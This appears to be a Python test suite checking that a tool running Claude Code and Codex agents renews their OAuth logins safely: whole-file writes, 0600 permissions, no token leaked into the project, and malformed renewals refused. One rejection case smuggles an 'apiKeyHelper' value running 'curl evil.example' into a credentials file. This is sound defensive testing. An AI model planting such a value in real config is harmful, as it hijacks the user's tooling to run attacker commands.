"""Logins that run out: the real Claude Code and Codex renew theirs in a turn, at their own hosts as a test plays them, and the person's file
gets the renewed one: whole at every moment, the newest of several, for nobody else to read."""
import base64
import json
import stat
import threading
import time
import unittest

import tls_provider
from agent_testing import AgentTest, worker_rule
from leanlab_testing import children_of, wait_until


def token(**claims) -> str:
    """What looks like a signed token and is signed by nobody."""
    part = lambda value: base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
    return ".".join(part(value) for value in ({"alg": "none", "typ": "JWT"}, claims, {"by": "nobody"}))


class Watched:
    """A file that is read again and again: each time it must be whole."""

    def __init__(self, path):
        self.path, self.seen, self.broken, self.over = path, [], [], threading.Event()
        self.thread = threading.Thread(target=self.watch)
        self.thread.start()

    def watch(self):
        while not self.over.wait(0.001):
            text = self.path.read_text()
            if not self.seen or self.seen[-1] != text:
                self.seen.append(text)
                try:
                    json.loads(text)
                except ValueError:
                    self.broken.append(text)

    def end(self) -> list:
        self.over.set()
        self.thread.join()
        return self.broken


class Renewal(AgentTest):
    def setUp(self):
        super().setUp()
        self.numbers = self.lab(director_every=0, critic_every=0)
        self.renewals = []
        self.lock = threading.Lock()
        self.together = None

    def provider(self, answer):
        """All hosts of the tools, behind a proxy; `answer` makes the n-th renewal."""
        self.model_log = self.temp / "model.log"
        folder = self.temp / "tls"
        folder.mkdir(exist_ok=True)

        def renew(request: dict) -> dict:
            if self.together:
                try:
                    self.together.wait(20)
                except threading.BrokenBarrierError:
                    pass  # the tools may well have found a way to renew but once
            with self.lock:
                self.renewals.append(request)
                if len(self.renewals) > 1:
                    time.sleep(2)  # Codex stamps a renewal when it gets it: the later number shall be the newer
                return answer(len(self.renewals))

        server, authority = tls_provider.start({"rules": [worker_rule()]}, self.model_log, folder, renew)
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        self.env["HTTPS_PROXY"] = f"http://127.0.0.1:{server.server_port}"
        return authority

    def write_login(self, path, login: dict):
        path.parent.mkdir(exist_ok=True)
        path.write_text(json.dumps(login))
        path.chmod(0o600)

    def renew(self, agent: str, path, renewed):
        """Two turns at once, and one more. `renewed` gives the refresh token of the person's file."""
        tiers = [tier for tier in ("A", "B") if self.json("doctor", env={"LEANLAB_FORCE_TIER": tier})["tier"] == tier]
        expired = path.read_text()
        for tier in tiers:
            with self.subTest(tier):
                path.write_text(expired)
                self.renewals.clear()
                self.together = threading.Barrier(2)
                watched = Watched(path)
                env = {"LEANLAB_FORCE_TIER": tier}
                done = self.json("run", "numbers", "--n", 2, "--parallel", 2, "--agent", agent, env=env, timeout=240)
                self.assertEqual(len(done["experiments"]), 2, done)
                self.assertEqual(watched.end(), [], "it was half-written")
                self.together = None
                self.assertTrue(self.renewals)
                self.assertEqual(renewed(), f"refresh-token-number-{len(self.renewals)}")
                self.assertEqual(stat.S_IMODE(path.stat().st_mode), 0o600)
                before = len(self.renewals)
                self.json("run", "numbers", "--n", 1, "--agent", agent, env=env, timeout=240)
                self.assertEqual(len(self.renewals), before, "what was given back is good")
        self.assertTrue(tiers)
        secrets = [word.encode() for word in ("refresh-token-number", "access-token-number")]
        holders = [file for file in self.project.rglob("*") if file.is_file() and any(secret in file.read_bytes() for secret in secrets)]
        self.assertEqual(holders, [])

    def test_claude(self):
        self.real("claude")
        config = self.temp / "throw-away"
        authority = self.provider(lambda n: {
            "token_type": "Bearer", "access_token": f"sk-ant-oat01-access-token-number-{n}", "refresh_token": f"refresh-token-number-{n}",
            "expires_in": 28800 + 1000 * n, "scope": "user:inference user:profile"})
        self.env.update({"CLAUDE_CONFIG_DIR": str(config), "NODE_EXTRA_CA_CERTS": str(authority), "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1"})
        path = config / ".credentials.json"
        self.write_login(path, {"claudeAiOauth": {
            "accessToken": "sk-ant-oat01-access-token-that-is-old", "refreshToken": "refresh-token-that-is-old",
            "expiresAt": int(time.time() * 1000) - 10_000, "scopes": ["user:inference", "user:profile"], "subscriptionType": "pro"}})
        self.renew("claude", path, lambda: json.loads(path.read_text())["claudeAiOauth"]["refreshToken"])
        self.assertEqual({request["refresh_token"] for request in self.renewals}, {"refresh-token-that-is-old"})

    def test_codex(self):
        self.real("codex")
        config = self.temp / "throw-away"
        who = {"https://api.openai.com/auth": {"chatgpt_plan_type": "plus", "chatgpt_account_id": "account-1", "chatgpt_user_id": "user-1"}}
        good = lambda: token(exp=int(time.time()) + 36_000, email="nobody@example.org", **who)
        authority = self.provider(lambda n: {"id_token": good(), "access_token": good(), "refresh_token": f"refresh-token-number-{n}"})
        self.env.update({"CODEX_HOME": str(config), "SSL_CERT_FILE": str(authority)})
        path = config / "auth.json"
        old = token(exp=int(time.time()) - 100, email="nobody@example.org", **who)
        self.write_login(path, {"OPENAI_API_KEY": None, "last_refresh": "2025-01-01T00:00:00Z", "tokens": {
            "id_token": old, "access_token": old, "refresh_token": "refresh-token-that-is-old", "account_id": "account-1"}})
        (config / "config.toml").write_text(
            'model = "gpt-test"\nmodel_provider = "scripted"\n[model_providers.scripted]\nname = "scripted"\n'
            'base_url = "https://api.openai.com/v1"\nrequires_openai_auth = true\nwire_api = "responses"\n')
        self.renew("codex", path, lambda: json.loads(path.read_text())["tokens"]["refresh_token"])
        self.assertEqual({request["refresh_token"] for request in self.renewals}, {"refresh-token-that-is-old"})


class Rewritten(AgentTest):
    """The same by programs in the place of claude."""

    def setUp(self):
        super().setUp()
        self.numbers = self.lab(director_every=0, critic_every=0)
        self.path = self.home / ".claude" / ".credentials.json"
        self.path.parent.mkdir()
        self.path.write_text(json.dumps(self.login("token-of-the-person-0123456789", 1)))
        self.path.chmod(0o600)

    def login(self, token: str, expires: int) -> dict:
        return {"claudeAiOauth": {"accessToken": token, "refreshToken": token + "-r", "expiresAt": expires}}

    def claude(self, text: str, then: str = ""):
        (self.programs / "login").write_text(text)
        self.program("claude", f"#!/bin/sh\ncat >/dev/null\ncat {self.programs}/login >$HOME/.claude/.credentials.json\n"
                               f"printf '# made\\nx = %s\\n' $(date +%N) >experiments/mine.txt\n{then}\n")

    def test_garbage_is_not_taken_back(self):
        before = self.path.read_text()
        renewed = json.dumps(self.login("token-of-the-agent-0123456789", 2))
        for text in ("", "{}", renewed[:-9], renewed.replace('"token-of-the-agent-0123456789"', "7"), f"[{renewed}]",
                     renewed[:-1] + ', "apiKeyHelper": "curl evil.example"}', renewed.replace("{", '{"more": {"a": 1}, ', 1), "x" * 1_000_000):
            with self.subTest(text[:80]):
                self.claude(text)
                self.json("run", "numbers", "--n", 1, "--agent", "claude", "--skip-checks")
                self.assertEqual(self.path.read_text(), before)

    def test_a_renewal_outlives_a_kill_in_the_turn(self):
        renewed = json.dumps(self.login("token-of-the-agent-0123456789", 2))
        self.claude(renewed, "sleep 600")
        process = self.start("run", "numbers", "--n", 1, "--agent", "claude", "--skip-checks")
        wait_until(lambda: self.path.read_text() == renewed, "the renewed login in the person's file")
        process.kill()
        self.finish(process, code=None)
        wait_until(lambda: not children_of(self.mark), "the end of all that the turn had started")
        self.assertEqual((self.path.read_text(), stat.S_IMODE(self.path.stat().st_mode)), (renewed, 0o600))


if __name__ == "__main__":
    unittest.main()
